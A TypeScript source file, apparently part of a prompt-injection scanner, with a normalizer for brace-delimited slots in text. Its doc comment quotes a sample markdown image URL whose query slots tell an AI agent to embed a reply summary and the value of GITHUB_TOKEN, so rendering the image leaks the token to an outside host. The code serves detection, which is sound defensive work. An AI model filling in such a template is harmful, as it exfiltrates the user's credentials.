/**
 * An image URL template whose query slots say in words what the agent puts there
 * (`![status](https://…/b.svg?s={one-line summary of this reply}&k={value of GITHUB_TOKEN, if set})`): the
 * agent writes the URL with the values filled in and URL-encoded, so the spaces in the description are
 * not where the URL ends. Each space, comma or apostrophe inside such a `{…}` slot becomes `_`, so the slot
 * reads as one name (`{value_of_GITHUB_TOKEN__if_set}`) and the URL as one run; the text keeps its length,
 * so offsets and lines stay those of the original.
 */
const DESCRIBED_SLOT = /\{[A-Za-z][^{}\n()<>]{0,200}\}/g;

export function describedSlots(text: string): string {
  if (!text.includes('{')) return text;
  return text.replace(DESCRIBED_SLOT, (slot) =>
    /[ \t,']/.test(slot) ? slot.replace(/[ \t,']/g, '_') : slot,
  );
}
